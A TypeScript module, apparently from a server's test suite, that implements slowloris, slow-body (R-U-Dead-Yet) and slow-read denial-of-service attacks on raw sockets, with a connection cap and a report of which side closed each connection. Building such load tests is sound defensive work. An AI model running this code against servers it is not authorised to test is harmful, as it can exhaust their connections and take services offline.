import { connect } from 'node:net';
import type { Socket } from 'node:net';

/**
 * The three slow-client attacks slowhttptest makes, on raw `net` sockets so they need nothing but
 * Node. Each keeps `connections` slow connections open at once (reopening one when the server
 * cuts it, as the tool does) until stopped, and never opens more than `maxConnections` in all:
 * - `slow-headers` (slowloris): a request line and one more header line every `trickleMs`, never
 *   the blank line that ends the head;
 * - `slow-body` (R-U-Dead-Yet): a complete head announcing a large body, then a few bytes of it
 *   every `trickleMs`;
 * - `slow-read`: three pipelined GETs, then the answers are read one socket read every
 *   `trickleMs`; the client never sends anything again.
 * The report says, per connection, whether the SERVER closed it (and what it answered first) or
 * whether it was still open when the attack ended and the attacker closed it.
 */
export type SlowAttackKind = 'slow-headers' | 'slow-body' | 'slow-read';

export interface SlowAttackOptions {
  readonly kind: SlowAttackKind;
  readonly host: string;
  readonly port: number;
  /** Request path (a GET target for slow-headers/slow-read, a POST target for slow-body). */
  readonly path: string;
  /** Slow connections held open at once. */
  readonly connections: number;
  /** Connections opened in all, reconnects included: the attack's hard bound. */
  readonly maxConnections: number;
  /** Pause between two trickles (a header line, a few body bytes, one socket read). */
  readonly trickleMs: number;
}

export interface SlowConnectionOutcome {
  /** `server`: the server ended the connection; `attacker`: still open when the attack stopped. */
  readonly closedBy: 'server' | 'attacker';
  /** Status codes of the answers received on the connection, in order. */
  readonly statuses: readonly number[];
  /** Socket error seen, if any (ECONNRESET counts as the server closing). */
  readonly error?: string;
}

export interface SlowAttackReport {
  readonly kind: SlowAttackKind;
  readonly opened: number;
  readonly outcomes: readonly SlowConnectionOutcome[];
  /** Most slow connections seen open at the same time. */
  readonly peakOpen: number;
}

/** A declared body far larger than any trickle reaches, below the controller's 1 MiB limit. */
const SLOW_BODY_BYTES = 500_000;
const PIPELINED_READS = 3;

export class SlowClientAttack {
  private readonly sockets = new Set<Socket>();
  private readonly outcomes: SlowConnectionOutcome[] = [];
  private openedCount = 0;
  private peak = 0;
  private stopping = false;
  private readonly allClosed: Array<() => void> = [];

  private constructor(private readonly options: SlowAttackOptions) {}

  /** Starts the attack: opens `connections` slow connections at once and keeps them topped up. */
  static start(options: SlowAttackOptions): SlowClientAttack {
    if (options.connections > options.maxConnections)
      throw new Error(
        `connections (${options.connections}) must not exceed maxConnections (${options.maxConnections})`,
      );
    const attack = new SlowClientAttack(options);
    for (let i = 0; i < options.connections; i++) attack.openOne();
    return attack;
  }

  /** Slow connections open right now. */
  get open(): number {
    return this.sockets.size;
  }

  /** Connections opened so far (reconnects included). */
  get opened(): number {
    return this.openedCount;
  }

  /** Connections the server has closed so far. */
  get closedByServer(): number {
    return this.outcomes.filter((outcome) => outcome.closedBy === 'server').length;
  }

  /**
   * Stops opening connections, waits up to `graceMs` for the server to close the ones still
   * open (its timeouts are the subject of the test), then closes the rest itself.
   */
  async stop(graceMs: number): Promise<SlowAttackReport> {
    this.stopping = true;
    if (this.sockets.size > 0) {
      await new Promise<void>((resolve) => {
        const timer = setTimeout(resolve, graceMs);
        this.allClosed.push(() => {
          clearTimeout(timer);
          resolve();
        });
      });
    }
    for (const socket of [...this.sockets]) socket.emit('attacker-stop');
    return {
      kind: this.options.kind,
      opened: this.openedCount,
      outcomes: [...this.outcomes],
      peakOpen: this.peak,
    };
  }

  private openOne(): void {
    const { host, port, kind, trickleMs } = this.options;
    this.openedCount += 1;
    const socket = connect({ host, port });
    this.sockets.add(socket);
    this.peak = Math.max(this.peak, this.sockets.size);
    let received = '';
    let error: string | undefined;
    let trickle: NodeJS.Timeout | undefined;
    let step = 0;
    let finished = false;
    const finish = (closedBy: 'server' | 'attacker'): void => {
      if (finished) return;
      finished = true;
      clearTimeout(trickle);
      socket.destroy();
      this.sockets.delete(socket);
      this.outcomes.push({ closedBy, statuses: statusesIn(received), ...(error ? { error } : {}) });
      if (this.sockets.size === 0) this.allClosed.splice(0).forEach((wake) => wake());
      if (!this.stopping && closedBy === 'server' && this.openedCount < this.options.maxConnections)
        this.openOne();
    };
    socket.once('attacker-stop', () => finish('attacker'));
    socket.on('error', (e: NodeJS.ErrnoException) => {
      error = e.code ?? e.message;
      finish('server');
    });
    socket.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1');
      if (kind === 'slow-read') socket.pause(); // one read per trickle
    });
    socket.on('end', () => finish('server'));
    socket.on('close', () => finish('server'));
    const every = (action: () => void): void => {
      trickle = setTimeout(() => {
        if (finished) return;
        action();
        every(action);
      }, trickleMs);
    };
    socket.once('connect', () => {
      if (kind === 'slow-headers') {
        socket.write(`GET ${this.options.path} HTTP/1.1\r\nHost: slow-client\r\n`);
        every(() => socket.write(`X-Slow-${step++}: ${step}\r\n`));
      } else if (kind === 'slow-body') {
        socket.write(
          `POST ${this.options.path} HTTP/1.1\r\nHost: slow-client\r\nContent-Type: text/plain\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n`,
        );
        every(() => socket.write('slow.'));
      } else {
        const request = `GET ${this.options.path} HTTP/1.1\r\nHost: slow-client\r\n\r\n`;
        socket.write(request.repeat(PIPELINED_READS));
        socket.pause();
        every(() => socket.resume());
      }
    });
  }
}

/** Status codes of the HTTP/1.x status lines in a received byte stream. */
function statusesIn(received: string): number[] {
  return [...received.matchAll(/HTTP\/1\.[01] (\d{3}) /g)].map((match) => Number(match[1]));
}
